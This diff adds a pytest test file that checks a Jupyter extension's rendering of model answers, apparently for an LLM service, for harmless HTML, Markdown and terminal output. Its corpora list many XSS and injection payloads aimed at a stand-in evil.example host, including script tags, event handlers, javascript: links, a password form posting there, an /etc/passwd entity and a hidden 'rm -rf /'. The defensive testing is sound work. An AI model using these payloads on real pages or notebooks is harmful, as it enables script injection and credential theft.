@@ -1,0 +1,280 @@
+"""Hostile answers: whatever a model writes, the outputs are harmless and show no hidden text."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Mapping
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from support.hidden import is_hidden
+
+from qianfan_magic import Chunk, Usage
+from qianfan_magic.conversation.conversation import Conversation, Fit
+from qianfan_magic.conversation.turn import Turn
+from qianfan_magic.views.plain import TerminalView
+from qianfan_magic.views.rendering.answer import AnswerOutput
+from qianfan_magic.views.rendering.formats import body
+from qianfan_magic.views.rendering.markdown import inert_markdown
+from qianfan_magic.views.reports.history import history_bundle
+
+# --- the judge: what HTML may contain, specified independently of the package
+
+TAGS = {
+    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "pre", "blockquote", "ul", "ol", "li"),
+    *("div", "span", "sup", "sub", "img", "b", "i", "u", "kbd", "mark", "details", "summary"),
+    *("a", "em", "strong", "s", "del", "code", "table", "thead", "tbody", "tr", "th", "td"),
+}
+ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}
+ATTRIBUTES |= {(tag, "style") for tag in ("p", "pre", "th", "td", "li", "div", "span", "img")}
+ATTRIBUTES |= {("div", "class"), ("span", "class"), ("img", "src"), ("img", "alt")}
+# Styles of letters and of the space around them: nothing that loads, covers or hides.
+STYLES = (
+    "opacity|font-size|white-space|word-break|overflow-wrap|margin(?:-top|-bottom)?|text-align|list-style-type"
+    "|contain|overflow-x|max-width|color|font-weight|font-style"
+)
+VALUES = {
+    "href": re.compile(r"(https?://|mailto:)[^\s]*", re.IGNORECASE),
+    "rel": re.compile(r".*\bnoopener\b.*\bnoreferrer\b.*"),
+    "start": re.compile(r"\d+"),
+    "style": re.compile(rf"(({STYLES}): ?([\w.%-]+|var\(--jp-[\w-]+\))(; ?)?)+"),
+    "class": re.compile(
+        r"(qianfan-answer mathjax_ignore tex2jax_ignore)|mathjax_process tex2jax_process"
+    ),
+    "src": re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+"),
+    "alt": re.compile(r".*", re.DOTALL),
+    "title": re.compile(r".*", re.DOTALL),
+}
+
+
+class Judge(HTMLParser):
+    """Collects the tags, attributes and declarations that are not allowed."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.faults: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.faults += [f"<{tag}>"] * (tag not in TAGS)
+        for name, value in attrs:
+            allowed = (tag, name) in ATTRIBUTES and VALUES[name].fullmatch(value or "")
+            self.faults += [] if allowed else [f"<{tag} {name}={value!r}>"]
+
+    def handle_other(self, data):
+        self.faults.append(data)
+
+    handle_comment = handle_decl = handle_pi = unknown_decl = handle_other
+
+
+def faults(html: str) -> list[str]:
+    judge = Judge()
+    judge.feed(html)
+    judge.close()
+    return judge.faults
+
+
+def trusting_html(text: str) -> str:
+    """Render Markdown as a tool does that trusts it: raw HTML, any link."""
+    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
+    parser.validateLink = lambda _url: True
+    return re.sub(r' class="language-[^"]*"', "", parser.render(text))
+
+
+# --- the corpus
+
+#: Answers that would run, load or follow something if they were trusted.
+ACTIVE = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<ScRiPt SRC=https://evil.example/x.js></sCrIpT>",
+    "script in a paragraph": "Look: <script>alert(1)</script>!",
+    "script never closed": "<script>alert(1)",
+    "event of an image": "<img src=x onerror=alert(1)>",
+    "event of a detail": "<details open ontoggle=alert(1)>x</details>",
+    "event of the body": "<body onload=alert(1)>",
+    "focus": "<input autofocus onfocus=alert(1)>",
+    "remote image": "![x](https://evil.example/pixel.png)",
+    "remote image by reference": "![x][r]\n\n[r]: https://evil.example/pixel.png",
+    "image in HTML": "<img src='https://evil.example/pixel.png'>",
+    "image with a script": "![x](javascript:alert(1))",
+    "image with a breaking title": '![x](https://e.example "a\\" onerror=\\"alert(1)")',
+    "image with a breaking text": '!["><script>alert(1)</script>](https://e.example)',
+    "javascript link": "[x](javascript:alert(1))",
+    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
+    "javascript link as entities": "[x](&#106;avascript&colon;alert(1))",
+    "javascript link as hex entities": "[x](&#x6A;&#x61;vascript:alert(1))",
+    "javascript link with a tab": "[x](<java\tscript:alert(1)>)",
+    "javascript link by entity tab": "[x](java&Tab;script:alert(1))",
+    "javascript link in brackets": "[x](<javascript:alert(1)>)",
+    "javascript link by reference": "[x][r]\n\n[r]: javascript:alert(1)",
+    "javascript reference on two lines": "[x]\n\n[x]:\njavascript:alert(1)",
+    "javascript autolink": "<javascript:alert(1)>",
+    "vbscript link": "[x](vbscript:msgbox)",
+    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "file link": "[x](file:///etc/passwd)",
+    "blob link": "[x](blob:https://evil.example/1)",
+    "link into this server": "[x](/lab?reset)",
+    "link to another host without a scheme": "[x](//evil.example/)",
+    "link beside this notebook": "[x](evil.ipynb)",
+    "SVG": "<svg><script>alert(1)</script></svg>",
+    "SVG link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "MathML": "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
+    "frame": "<iframe src='https://evil.example'></iframe>",
+    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": "<object data='https://evil.example'></object><embed src=x>",
+    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
+    "style": "<style>body { background: url(https://evil.example) }</style>",
+    "style of an element": '<p style="background: url(https://evil.example)">x</p>',
+    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
+    "form": "<form action=https://evil.example><input name=password></form>",
+    "base": "<base href='https://evil.example/'>",
+    "clobbered names": "<a id=jupyterapp name=jupyterapp>x</a>",
+    "button of JupyterLab": '<button data-commandlinker-command="terminal:create-new">x</button>',
+    "comment": "<!-- <script>alert(1)</script> -->",
+    "instruction": "<?php echo 1 ?>",
+    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
+    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
+    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "tag over two lines": "<img\nsrc=x\nonerror=alert(1)>",
+    "tag in a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "tag in a list": "- a\n- <script>alert(1)</script>",
+    "tag in a quote": "> <script>alert(1)</script>",
+    "tag behind a fence": "```\ncode\n```\n<script>alert(1)</script>",
+    "fence that is never closed": "<script>alert(1)</script>\n```",
+}
+#: Answers that do nothing in correct HTML, and try to break out of it.
+SLY = {
+    "event behind a slash": "<svg/onload=alert(1)>",
+    "language that breaks out": '```"><script>alert(1)</script>\ncode\n```',
+    "language with an event": '``` x" onmouseover="alert(1)\ncode\n```',
+    "title that breaks out": '[x](https://e.example "a\\" onmouseover=\\"alert(1)")',
+    "title in single quotes": "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
+    "address that breaks out": '[x](https://e.example/"onmouseover="alert(1))',
+    "code that breaks out": "`</code><script>alert(1)</script>`",
+    "block that breaks out": "~~~\n</code></pre><script>alert(1)</script>\n~~~",
+    "fences of all lengths": "`\n``\n```\n````\n`````\n</pre><b>x",
+    "escaped twice": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "bidirectional override": "access\u202etxt.exe \u2066x\u2069 \u202a\u202b\u202c\u202d",
+    "bidirectional entity": "a &#x202e;txt.exe&#8294; &lrm; &#x200b;",
+    "ANSI escapes": "\x1b[2J\x1b[31mred \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b1m",
+    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt> \x00",
+    "carriage return": "safe\rdangerous",
+    "backspaces": "rm -rf /\x08\x08\x08\x08ls",
+    "lone surrogates": "half \ud83d, other half \udc00",
+    "form feed in a tag": "<img\x0csrc=x\x0conerror=alert(1)>",
+    "wide brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "many brackets": "[" * 200 + "](javascript:" * 5,
+}
+HOSTILE = ACTIVE | SLY
+
+
+def assert_none(corpus: Mapping[str, str], find: Callable[[str], Any]) -> None:
+    """Assert that nothing is found in any payload; the message names the payloads."""
+    failed = {name: found for name, text in corpus.items() if (found := find(text))}
+    assert failed == {}
+
+
+def output_of(text: str) -> dict[str, str]:
+    return AnswerOutput(text, "markdown", notes=(text,)).bundle()
+
+
+def history_of(text: str) -> dict[str, str]:
+    conversation = Conversation(text, system=text, turns=(Turn(text, text),))
+    return history_bundle(conversation, Fit([]))
+
+
+def hidden_in(bundle: Mapping[str, str]) -> list[str]:
+    return [character for text in bundle.values() for character in text if is_hidden(character)]
+
+
+def test_payloads_are_active_where_they_are_trusted():
+    assert_none(ACTIVE, lambda text: not faults(trusting_html(text)))
+
+
+@pytest.mark.parametrize("form", ["markdown", "text", "json", "html"])
+def test_answer_is_harmless(form):
+    assert_none(HOSTILE, lambda text: faults(AnswerOutput(text, form).bundle()["text/html"]))
+
+
+def test_note_is_harmless():
+    assert_none(HOSTILE, lambda text: faults(output_of(text)["text/html"]))
+
+
+def test_reasoning_is_harmless():
+    def faults_of(text: str) -> list[str]:
+        return faults(AnswerOutput("", reasoning=text).bundle()["text/html"])
+
+    wrapper = faults_of("x")  # the element that folds it
+    assert_none(HOSTILE, lambda text: faults_of(text) != wrapper)
+
+
+def test_history_is_harmless():
+    assert_none(HOSTILE, lambda text: faults(history_of(text)["text/html"]))
+
+
+def test_markdown_is_inert_in_a_tool_that_trusts_it():
+    assert_none(HOSTILE, lambda text: faults(trusting_html(output_of(text)["text/markdown"])))
+
+
+def test_active_markdown_is_fenced():
+    assert_none(ACTIVE, lambda text: inert_markdown(text) == text)
+
+
+def test_output_shows_no_hidden_character():
+    assert_none(HOSTILE, lambda text: hidden_in(output_of(text)))
+
+
+def test_history_shows_no_hidden_character():
+    assert_none(HOSTILE, lambda text: hidden_in(history_of(text)))
+
+
+def test_terminal_gets_no_hidden_character(capsys):
+    def find(text: str) -> list[str]:
+        view = TerminalView()
+        view.write(Chunk(text, is_end=False, usage=Usage(), raw={}))
+        view.end(AnswerOutput(text, "markdown", notes=(text,)))
+        return hidden_in({"terminal": capsys.readouterr().out})
+
+    assert_none(HOSTILE, find)
+
+
+#: Texts of pieces that have a meaning in Markdown or HTML.
+PIECES = st.sampled_from(
+    [*"<>\"'`[]()!&:;/=\n\t x", "script", "javascript:", "\ud800", "\x1b", "](", "](<"]
+)
+MESSY = st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=25).map("".join)
+
+
+@given(MESSY)
+def test_any_answer_is_harmless_and_can_be_saved(text):
+    bundle = output_of(text + "x")
+    assert faults(bundle["text/html"]) == []
+    assert faults(trusting_html(bundle["text/markdown"])) == []
+    assert "".join(bundle.values()).encode("utf-8")  # raises on a lone surrogate
+
+
+def test_html_of_an_answer_keeps_only_harmless_parts():
+    expected = {
+        "<script>alert(1)</script>a": "a",
+        "<style>p { color: red }</style>a": "a",
+        "<p onclick='alert(1)' id=x>a</p>": "<p>a</p>",
+        "<p style='position:fixed'>a</p>": "<p>a</p>",
+        '<td style="text-align:left">a</td>': "a",
+        "<form><input></form><iframe></iframe>a": "a",
+        "<svg><script>alert(1)</script></svg>a": "a",
+        "<a href='javascript:alert(1)'>a</a>": "a",
+        "<a href='/lab'>a</a><a href='a.ipynb'>b</a>": "ab",
+        # Classes by which the page colors code, typesets formulas or recognises an answer.
+        '<span class="k">a</span>': "<span>a</span>",
+        '<span class="mathjax_process">a</span>': "<span>a</span>",
+        '<span class="tex2jax_process">a</span>': "<span>a</span>",
+        '<span class="qianfan-answer">a</span>': "<span>a</span>",
+    }
+    assert {text: body(text, "html") for text in expected} == expected
+
+
+def test_hostile_words_are_still_readable():
+    assert "&lt;script&gt;alert(1)" in body("<script>alert(1)</script>", "markdown")
